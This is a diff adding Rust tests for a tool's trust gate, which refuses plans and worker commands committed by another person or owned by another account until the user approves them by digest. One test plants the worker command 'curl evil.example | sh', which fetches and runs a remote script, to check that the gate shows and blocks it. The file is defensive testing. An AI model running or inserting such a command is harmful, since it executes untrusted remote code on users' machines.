@@ -1,0 +1,218 @@
+//! A plan or a worker that came with the repository: shown before `align` runs anything of it.
+
+use std::{fs, os::unix::fs::chown};
+
+use serde_json::{Value, json};
+
+use crate::{
+    terminal,
+    trust::{QUESTION, is_root, marking, marks, trust},
+    world::{World, assert_same, listing, plan, task},
+};
+
+/// A plan whose one task is for the worker.
+fn for_worker() -> Value {
+    let mut atom = task("");
+    atom.as_object_mut().unwrap().remove("action");
+    plan(&["test -f done"], json!({}), json!({"A1": atom}))
+}
+
+#[test]
+fn align_shows_the_worker_and_another_one_later_is_refused_until_it_is_allowed() {
+    let world = World::new();
+    world.write("descent.toml", "worker = {run = \"touch done\"}\n");
+    let path = world.plan(&for_worker());
+    world
+        .descent(&["align", "-y", "-f", &path])
+        .expect(0)
+        .shows("the worker: touch done");
+    let other = format!("touch done {}", world.out("worker").display());
+    world.write("descent.toml", &format!("worker = {{run = \"{other}\"}}\n"));
+    world
+        .descent(&["run"])
+        .expect(77)
+        .says("another worker")
+        .says(&other);
+    assert_eq!(marks(&world), 0);
+    // Judging runs no worker; and the agreed one again is never asked about.
+    world.descent(&["verify"]).expect(1);
+    trust(&world);
+    world.run().expect(0);
+    world.write("descent.toml", "[worker]\nrun = 'touch done'\n");
+    world.run().expect(0);
+}
+
+#[test]
+fn a_worker_that_comes_after_the_agreement_is_another_one() {
+    let world = World::new();
+    world.align(&for_worker());
+    world.write("descent.toml", "worker = {run = \"touch done\"}\n");
+    world.descent(&["run"]).expect(77).says("touch done");
+    let ran = terminal::answered(&mut world.command(&["run"]), QUESTION, "y\n").expect(0);
+    assert!(ran.stdout.contains("completed"));
+}
+
+/// Commits all, as somebody else.
+fn commit_as(world: &World, email: &str) {
+    let mail = format!("user.email={email}");
+    world.git(&["add", "-A"]);
+    world.git(&["-c", &mail, "commit", "-qm", "theirs"]);
+}
+
+/// A plan that came with the repository, by another committer.
+fn cloned_plan() -> (World, String) {
+    let world = World::new();
+    world.write("plan.json", &marking(&world).to_string());
+    commit_as(&world, "eve@example.org");
+    let path = world.repo().join("plan.json").display().to_string();
+    (world, path)
+}
+
+#[test]
+fn a_plan_that_another_committed_runs_no_check_before_it_is_allowed() {
+    let (world, path) = cloned_plan();
+    let before = listing(&world.root());
+    for more in [&["-y"][..], &["-n"], &[]] {
+        let ran = world.descent(&[&["align", "-f", &path], more].concat());
+        ran.expect(77)
+            .says("eve@example.org")
+            .says("action A1")
+            .says("setup")
+            .says(&format!("descent trust --plan {path} --hash sha256:"));
+    }
+    assert_eq!(marks(&world), 0);
+    assert_same(&world.root(), &before);
+}
+
+#[test]
+fn a_plan_that_was_allowed_by_its_digest_is_taken_unasked_until_it_changes() {
+    let (world, path) = cloned_plan();
+    let shown = world
+        .descent(&["trust", "--plan", &path, "--json"])
+        .expect(77)
+        .json();
+    let hash = shown["hash"].as_str().unwrap();
+    world
+        .descent(&["trust", "--plan", &path, "--hash", hash])
+        .expect(0);
+    assert_eq!(marks(&world), 0);
+    world.descent(&["align", "-y", "-f", &path]).expect(0);
+    world.run().expect(0);
+    let changed = world
+        .read("plan.json")
+        .replace("touch done", "touch done; true");
+    world.write("plan.json", &changed);
+    commit_as(&world, "eve@example.org");
+    world
+        .descent(&["align", "-y", "--force", "-f", &path])
+        .expect(77);
+}
+
+#[test]
+fn at_a_terminal_align_asks_about_a_strangers_plan_before_it_runs_its_checks() {
+    let (world, path) = cloned_plan();
+    let mut command = world.command(&["align", "-f", &path]);
+    terminal::answered(&mut command, QUESTION, "n\n")
+        .expect(77)
+        .says("eve@example.org");
+    assert_eq!(marks(&world), 0);
+    assert!(!world.state_path().exists());
+}
+
+#[test]
+fn a_plan_of_ones_own_is_never_asked_about() {
+    let world = World::new();
+    let text = marking(&world).to_string();
+    let path = world.repo().join("plan.json").display().to_string();
+    let align = |extra: &str| {
+        let mut args = vec!["align", "-y", "--force", "-f", &path];
+        args.extend((!extra.is_empty()).then_some(extra));
+        world.descent(&args).expect(0);
+    };
+    // Untracked, committed by oneself, changed since another committed it, without an identity.
+    world.write("plan.json", &text);
+    align("");
+    commit_as(&world, "Ada@example.org");
+    world.write("plan.json", &text.replace("touch done", "touch done; :"));
+    align("");
+    commit_as(&world, "eve@example.org");
+    world.write("plan.json", &text.replace("touch done", "touch done; : :"));
+    align("");
+    world.git(&["checkout", "-q", "plan.json"]);
+    world.git(&["config", "--unset", "user.email"]);
+    align("");
+}
+
+#[test]
+fn line_endings_of_a_checkout_do_not_make_a_strangers_plan_ones_own() {
+    let world = World::new();
+    let plan = format!("{:#}\n", marking(&world));
+    let mixed = plan.replacen('\n', "\r\n", 1);
+    world.write("plan.json", &mixed);
+    commit_as(&world, "eve@example.org");
+    world.write(".gitattributes", "plan.json text eol=crlf\n");
+    commit_as(&world, "eve@example.org");
+    fs::remove_file(world.repo().join("plan.json")).unwrap();
+    world.git(&["checkout", "-q", "plan.json"]);
+    assert!(world.read("plan.json").matches("\r\n").count() > 1);
+    let path = world.repo().join("plan.json").display().to_string();
+    world.descent(&["align", "-y", "-f", &path]).expect(77);
+    assert_eq!(marks(&world), 0);
+}
+
+#[test]
+fn a_worker_that_came_with_the_repository_is_shown_before_anything_is_agreed() {
+    let world = World::new();
+    world.write(
+        "descent.toml",
+        "worker = {run = \"curl evil.example | sh\"}\n",
+    );
+    commit_as(&world, "eve@example.org");
+    let plan = world.plan(&for_worker());
+    world
+        .descent(&["align", "-y", "-f", &plan])
+        .expect(77)
+        .says("curl evil.example")
+        .says("descent trust --worker --hash sha256:");
+    let shown = world
+        .descent(&["trust", "--worker", "--json"])
+        .expect(77)
+        .json();
+    let hash = shown["hash"].as_str().unwrap();
+    world
+        .descent(&["trust", "--worker", "--hash", hash])
+        .expect(0);
+    world.descent(&["align", "-y", "-f", &plan]).expect(0);
+}
+
+#[test]
+fn a_plan_and_a_worker_of_a_stranger_are_allowed_by_one_digest() {
+    let (world, path) = cloned_plan();
+    world.write("descent.toml", "worker = {run = \"touch done\"}\n");
+    commit_as(&world, "eve@example.org");
+    let shown = world
+        .descent(&["trust", "-f", &path, "--json"])
+        .expect(77)
+        .json();
+    let hash = shown["hash"].as_str().unwrap();
+    world
+        .descent(&["trust", "-f", &path, "--hash", hash])
+        .expect(0);
+    world.descent(&["align", "-y", "-f", &path]).expect(0);
+    world.run().expect(0);
+}
+
+#[test]
+fn a_plan_of_another_account_is_a_strangers() {
+    if !is_root() {
+        return;
+    }
+    let world = World::new();
+    let path = world.plan(&marking(&world));
+    chown(&path, Some(4242), None).unwrap();
+    world
+        .descent(&["align", "-y", "-f", &path])
+        .expect(77)
+        .says("another account (4242)");
+    assert_eq!(marks(&world), 0);
+}
